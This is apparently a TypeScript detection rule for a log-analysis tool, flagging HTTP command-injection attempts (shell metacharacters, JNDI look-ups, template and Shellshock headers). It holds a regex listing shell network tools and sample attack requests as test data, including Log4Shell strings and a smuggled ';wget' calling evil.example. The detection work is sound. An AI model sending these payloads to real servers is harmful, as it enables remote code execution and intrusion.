import type { Event } from '../../logs/event.ts';
import { packScenario, requests } from './pack-scenario.ts';
import { decodedTarget, isUnusual } from './request-text.ts';

const command =
  /(?:[;|&`\n]|\$\()\s*(?:wget|curl|chmod|nc|bash|sh|python\d?|perl|ping|nslookup|cat|id|uname|whoami|rm|echo|busybox|tftp)\b(?:[\s;|)`'"]|$)|\$\{(?:jndi|env|lower|upper|::-)|\{\{\s*\d+\s*\*\s*\d+\s*\}\}|<\?php|\bclass\.module\.classloader\b|#context\[|getruntime\(\)\.exec/;
const header = /\(\)\s*\{\s*[:_]?;|\$\{[^}]{0,40}(?:jndi|\$\{)/i;

const inHeader = (text: string) => text.includes('{') && header.test(text.slice(0, 1024));
const inRequest = (event: Event) => isUnusual(event) && command.test(decodedTarget(event));

export const httpCommandInjection = packScenario({
  name: 'bugheist/http-command-injection',
  description: 'Sent commands for the machine to run (shell, JNDI look-ups, templates)',
  weakness: 'CWE-78',
  advice: 'Search outgoing connections of the server around this time: a working attack calls home.',
  kinds: ['http-access'],
  when: (event) => inRequest(event) || inHeader(event.ua) || inHeader(event.ref),
  capacity: 1,
  leakMs: 600_000,
  behavior: 'http:exploit',
  service: 'http',
  confidence: 3,
  examples: {
    attacks: [
      requests(2, 'GET /?x=$%7Bjndi:ldap://evil.example/{n}%7D'),
      requests(2, 'GET /', { agent: '\x24{\x24{::-j}ndi:ldap://evil.example/a}', status: 200 }),
      requests(2, 'GET /cgi-bin/a', { agent: '() { :; }; /bin/bash -c id' }),
      requests(2, 'GET /ping?ip=1.1.1.1;wget+http://evil.example/{n}'),
    ],
    ordinary: [
      requests(20, 'GET /a?x=1;y={n}', { status: 200 }),
      requests(20, 'GET /search?q=cats+and+curl+{n}', { status: 200 }),
      requests(20, 'GET /tpl?name={{title}}-{n}', { status: 200 }),
    ],
  },
});
